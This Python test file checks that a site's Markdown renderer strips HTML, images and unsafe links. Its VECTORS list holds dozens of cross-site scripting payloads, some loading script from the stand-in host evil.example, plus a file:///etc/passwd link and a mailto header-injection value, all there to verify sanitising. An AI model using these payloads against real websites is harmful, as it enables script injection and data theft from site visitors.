"""What Markdown may do on a page, and what it may not."""

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from certsite import markup
from certsite.problem import Problem, Staged, as_text


def read(text: str, top_heading: int = 2) -> Staged[str]:
    return markup.html(text, shown="a.md", first_line=1, top_heading=top_heading)


def shown(text: str) -> str:
    html, problems = read(text)
    assert not problems, as_text(problems)
    return html


def lines(text: str, first_line: int = 1) -> list[str]:
    return as_text(markup.html(text, shown="a.md", first_line=first_line)[1]).splitlines()


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("", ""),
        (" \n\n", ""),
        ("Two *kinds* of **stress**.", "<p>Two <em>kinds</em> of <strong>stress</strong>.</p>"),
        ("one  \ntwo", "<p>one<br>\ntwo</p>"),
        ("one\n\n---\n\ntwo", "<p>one</p>\n<hr>\n<p>two</p>"),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("write `<b>` and `![a](b)`", "<p>write <code>&lt;b&gt;</code> and <code>![a](b)</code></p>"),
        ("    indented by accident", "<p>indented by accident</p>"),
        ("snake_case_name", "<p>snake_case_name</p>"),
    ],
)
def test_markdown_becomes_html(text: str, html: str) -> None:
    assert shown(text) == html


def test_a_table_keeps_its_cells_and_loses_its_alignment_which_would_be_an_inline_style() -> None:
    html = shown("a|b\n:-:|-\n1|2")
    assert "<th>a</th>" in html
    assert "<td>2</td>" in html
    assert "style" not in html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("a < b and c > d", "a &lt; b and c &gt; d"),
        ("O'Fallon", "O'Fallon"),
        ("São Paulo & região", "São Paulo &amp; região"),
        ("<3", "&lt;3"),
        ("x<y", "x&lt;y"),
        ("&lt;b> &copy; AT&T", "&lt;b&gt; © AT&amp;T"),
        ("“open” – 50 % [sic] (2024)", "“open” – 50 % [sic] (2024)"),
        ("Wow! [a](b/)", 'Wow! <a href="b/">a</a>'),
        ("\\*not stressed\\*", "*not stressed*"),
        ("wzxhzdk:0 klzzwxh:0000 amp", "wzxhzdk:0 klzzwxh:0000 amp"),
    ],
)
def test_honest_text_is_shown_as_it_is_written(text: str, html: str) -> None:
    assert shown(text) == f"<p>{html}</p>"


@pytest.mark.parametrize(
    ("text", "href", "rel"),
    [
        ("[a](https://example.org/?a=1&b=2)", "https://example.org/?a=1&b=2", "external noopener"),
        ("<https://example.org/>", "https://example.org/", "external noopener"),
        ("[a][b]\n\n[b]: http://example.org/", "http://example.org/", "external noopener"),
        ("[a](<https://example.org/(x)>)", "https://example.org/(x)", "external noopener"),
        ("[a](../levels/#top)", "../levels/#top", None),
        ("[a](mailto:city@example.org)", "mailto:city@example.org", None),
        ("<city@example.org>", "mailto:city@example.org", None),
    ],
)
def test_a_link_keeps_its_address_and_an_external_one_says_so(text: str, href: str, rel: str | None) -> None:
    [link] = LexborHTMLParser(shown(text)).css("a")
    assert (link.attributes["href"], link.attributes.get("rel")) == (href, rel)


@pytest.mark.parametrize(
    ("top", "text", "headings"),
    [
        (2, "# a\n\n## b\n\n# c", "h2 a, h3 b, h2 c"),
        (3, "## a\n\n### b", "h3 a, h4 b"),
        (2, "# a\n\n#### b\n\n### c\n\n## d", "h2 a, h3 b, h3 c, h3 d"),
        (2, "### a\n\n# b\n\n## c", "h2 a, h2 b, h3 c"),
        (5, "# a\n\n## b\n\n### c\n\n#### d", "h5 a, h6 b, h6 c, h6 d"),
        (2, "a\n===\n\nb\n---", "h2 a, h3 b"),
    ],
)
def test_headings_begin_at_the_level_asked_for_and_skip_none(top: int, text: str, headings: str) -> None:
    tree = LexborHTMLParser(read(text, top_heading=top)[0])
    assert ", ".join(f"{node.tag} {node.text()}" for node in tree.css("h1,h2,h3,h4,h5,h6")) == headings


@pytest.mark.parametrize(
    ("text", "ids"),
    [
        ("# São *Paulo* & região", ["story-sao-paulo-regiao"]),
        ("# A\n\n# A\n\n# A 2\n\n# A", ["story-a", "story-a-2", "story-a-2-2", "story-a-3"]),
        ("# 数据\n\n# \\*", ["story-section", "story-section-2"]),
        ("# &copy; <a@example.org>", ["story-a-example-org"]),
    ],
)
def test_ids_of_headings_are_words_of_the_heading_and_unique(text: str, ids: list[str]) -> None:
    html = read(text)[0]
    assert re.findall(r'id="([^"]*)"', html) == ids


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (
            "one\n\ntwo<br>lines",
            "a.md:3:4: error: HTML is not allowed here: '<br>'; "
            "write Markdown, or &lt; where the sign < itself is meant",
        ),
        (
            "<!-- hidden -->",
            "a.md:1:1: error: HTML is not allowed here: '<!--'; "
            "write Markdown, or &lt; where the sign < itself is meant",
        ),
        (
            "see\n![a map](map.png)",
            "a.md:2:1: error: images are not shown here; remove the image, or write a link without !",
        ),
        (
            "![a map][m]",
            "a.md:1:1: error: images are not shown here; remove the image, or write a link without !",
        ),
        (
            "one\ntwo [a](javascript:alert)",
            "a.md:2:9: error: a link must not lead to 'javascript:alert'; write a complete address that begins "
            "with https://, http:// or mailto:, or a path inside this site",
        ),
        (
            "one\n\n[a](java&#115;cript:x)",
            "a.md:3:1: error: a link must not lead to 'javascript:x'; write a complete address that begins "
            "with https://, http:// or mailto:, or a path inside this site",
        ),
        (
            "[a][b]\n\n[b]: //example.org",
            "a.md:3:6: error: a link must not lead to '//example.org'; write a complete address that begins "
            "with https://, http:// or mailto:, or a path inside this site",
        ),
        (
            "[a]()",
            "a.md:1:1: error: a link must not lead to ''; write a complete address that begins "
            "with https://, http:// or mailto:, or a path inside this site",
        ),
        ("one\ntw\x02o", "a.md:2:3: error: a control character stands here; remove it"),
        (
            "x" * 65_537,
            "a.md:1:1: error: the text is longer than 65,536 characters; write a shorter text",
        ),
        (
            "x\n\n" + "x" * 8_001,
            "a.md:3:8001: error: the paragraph is longer than 8,000 characters; part it by a blank line",
        ),
        (
            "\n" + "x\n" * 201,
            "a.md:2:1: error: more than 200 lines follow each other; part them by a blank line",
        ),
        (
            "*_" * 501,
            "a.md:1:1: error: the paragraph has more than 1,000 signs * and _; part it by a blank line",
        ),
        (
            "x\n" + ">" * 9,
            "a.md:2:9: error: quotes and lists lie in each other deeper than 8 levels; write fewer signs and spaces "
            "at the start of the line, or --- for a line across the page",
        ),
        (
            "> 1. - " * 3 + "x",
            "a.md:1:20: error: quotes and lists lie in each other deeper than 8 levels; write fewer signs and spaces "
            "at the start of the line, or --- for a line across the page",
        ),
        (
            "x\n\nxx " + "[" * 11,
            "a.md:3:14: error: more than 10 brackets are open at once; close each bracket, or remove it",
        ),
        (
            "[a](" * 11,
            "a.md:1:44: error: more than 10 brackets are open at once; close each bracket, or remove it",
        ),
        (
            "x\n\n" + "[ `]` " * 11,
            "a.md:1:1: error: more than 10 brackets are open at once; close each bracket, or remove it",
        ),
    ],
)
def test_what_is_not_allowed_is_named_with_its_place_and_mend(text: str, message: str) -> None:
    assert lines(text) == [message]


def test_lines_are_those_of_the_file() -> None:
    assert lines("a\r\n\r\n<b>", first_line=20)[0].startswith("a.md:22:1: error:")


def test_html_and_images_that_are_refused_are_shown_as_written() -> None:
    assert read("<b>x</b> ![a](b.png)")[0] == "<p>&lt;b&gt;x&lt;/b&gt; ![a](b.png)</p>"


VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>a</a>",
    "<a href='x' onclick='alert(1)'>a</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=javascript:alert(1)><button>a</button></form>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "`</code><script>alert(1)</script>`",
    "``` \n</code><script>alert(1)</script>\n```",
    "    </pre><script>alert(1)</script>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a]( javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](<java\tscript:alert(1)>)",
    "[a](<java\nscript:alert(1)>)",
    "[a](javascript&colon;alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](javascript&#x3A;alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](java&NewLine;script:alert(1))",
    "[a](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[a](&#1;javascript:alert(1))",
    "[a](java\\script:alert(1))",
    "[a](java\u200bscript:alert(1))",
    "[a](\u00a0javascript:alert(1))",
    "[a](javascript://example.org/%0aalert(1))",
    "<javascript://example.org/%0aalert(1)>",
    "<javascript:alert(1)@example.org>",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](vbscript:msgbox(1))",
    "[a](file:///etc/passwd)",
    "[a](blob:https://example.org/x)",
    "[a](view-source:https://example.org/)",
    "[a](//evil.example)",
    "[a](/\\evil.example)",
    "[a](\\\\evil.example)",
    "[a](https:evil.example)",
    "[a](https://honest.example@evil.example/)",
    "[a][b]\n\n[b]: javascript:alert(1)",
    "[a]\n\n[a]: <javascript:alert(1)> 'title'",
    "[a](https://example.org/ \"x' onmouseover='alert(1)\")",
    "[a](https://example.org/ 'x\" onmouseover=\"alert(1)')",
    '[a](https://example.org/"onmouseover=alert(1)//)',
    '<https://example.org/"onmouseover=alert(1)//>',
    "<a@example.org\"onmouseover='alert(1)'>",
    "![a](javascript:alert(1))",
    "![a](https://evil.example/pixel.png)",
    '![a"onerror="alert(1)](x)',
    "![a][b]\n\n[b]: https://evil.example/pixel.png",
    "[![a](x)](javascript:alert(1))",
    "# <script>alert(1)</script>",
    "a|b\n-|-\n<script>alert(1)</script>|[a](javascript:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "\x02klzzwxh:0000\x03",
    "\x02amp\x03lt;script>",
    "[a](https://example.org/){onclick=alert(1)}",
]

ALLOWED = {
    **{f"h{level}": {"id"} for level in range(1, 7)},
    **dict.fromkeys(("html", "head", "body", "p", "br", "hr", "em", "strong", "code", "blockquote"), frozenset()),
    **dict.fromkeys(("ul", "li", "table", "thead", "tbody", "tr", "th", "td"), frozenset()),
    "a": {"href", "title", "rel"},
    "ol": {"start"},
}


def assert_nothing_active(html: str) -> None:
    for node in LexborHTMLParser(f"<!doctype html><body>{html}").css("*"):
        assert node.tag in ALLOWED, html
        assert set(node.attributes) <= ALLOWED[node.tag], html
        href = node.attributes.get("href")
        assert href is None or re.match(r"https?://[^@]*$|mailto:|(?!//)[^:\\\s]*$", href, re.IGNORECASE), html


@pytest.mark.parametrize("text", VECTORS)
def test_no_known_attack_yields_anything_active(text: str) -> None:
    assert_nothing_active(read(text)[0])


SIGNS = st.sampled_from(
    [*"[]()<>!*_`#-|:\\&;'\n\r\x02\x03 a", "\n\n", "    ", "1. ", "- ", "javascript:", "&#58;", "<b "]
)


@given(st.one_of(st.text(max_size=200), st.lists(SIGNS, max_size=60).map("".join)))
@settings(max_examples=400, deadline=None)
def test_whatever_is_written_becomes_safe_html_and_never_raises(text: str) -> None:
    html, problems = read(text)
    assert_nothing_active(html)
    assert (html, problems) == read(text)
    assert all(isinstance(problem, Problem) and problem.line and problem.column for problem in problems)


@given(st.text(max_size=60))
def test_an_address_is_returned_as_it_is_or_not_at_all(url: str) -> None:
    assert markup.address(url) in {url, None}
    assert markup.web_address(url) in {url, None}


@pytest.mark.parametrize(
    "sign", [">", "> ", "[", "![", "[a](", "*", "_", "*a ", "`", "&", "- ", "1. ", "<", "`` ` ", "- a\n    "]
)
def test_ten_thousand_of_a_sign_cost_little(sign: str) -> None:
    begin = time.process_time()
    read(sign * 10_000)
    assert time.process_time() - begin < 1


@pytest.mark.parametrize("text", ["[ `]` ", "[a]( `)` ", "[a `]`] "])
def test_brackets_hidden_behind_code_cost_little_in_many_paragraphs(text: str) -> None:
    begin = time.process_time()
    read("\n\n".join([text * 1_000] * 8))
    assert time.process_time() - begin < 5


@pytest.mark.parametrize(
    ("url", "is_web", "is_allowed"),
    [
        ("https://example.org", True, True),
        ("HTTP://EXAMPLE.ORG:8080/a?b=c#d", True, True),
        ("https://são.example/região", True, True),
        ("https://[::1]/", True, True),
        ("https://[::1", False, False),
        ("https://", False, False),
        ("https:///path", False, False),
        ("https://user@example.org", False, False),
        ("https://example.org:99999/", False, False),
        ("https://example.org/a b", False, False),
        ("https://example.org/\u202egpj.exe", False, False),
        (" https://example.org", False, False),
        ("https://example.org/" + "a" * 2_000, False, False),
        ("ftp://example.org/", False, False),
        ("mailto:a@example.org?subject=Data", False, True),
        ("mailto:a@example.org?subject=x%0Abcc:b@example.org", False, False),
        ("mailto:", False, False),
        ("tel:1", False, False),
        ("/levels/gold/", False, True),
        ("../a/#b", False, True),
        ("#b", False, True),
        ("?q=a:b", False, True),
        ("a/b:c", False, True),
        ("a:b", False, False),
        ("//example.org/", False, False),
        ("/\\example.org/", False, False),
        ("", False, False),
    ],
)
def test_the_allow_list_of_addresses(url: str, is_web: bool, is_allowed: bool) -> None:
    assert (markup.web_address(url), markup.address(url)) == (url if is_web else None, url if is_allowed else None)
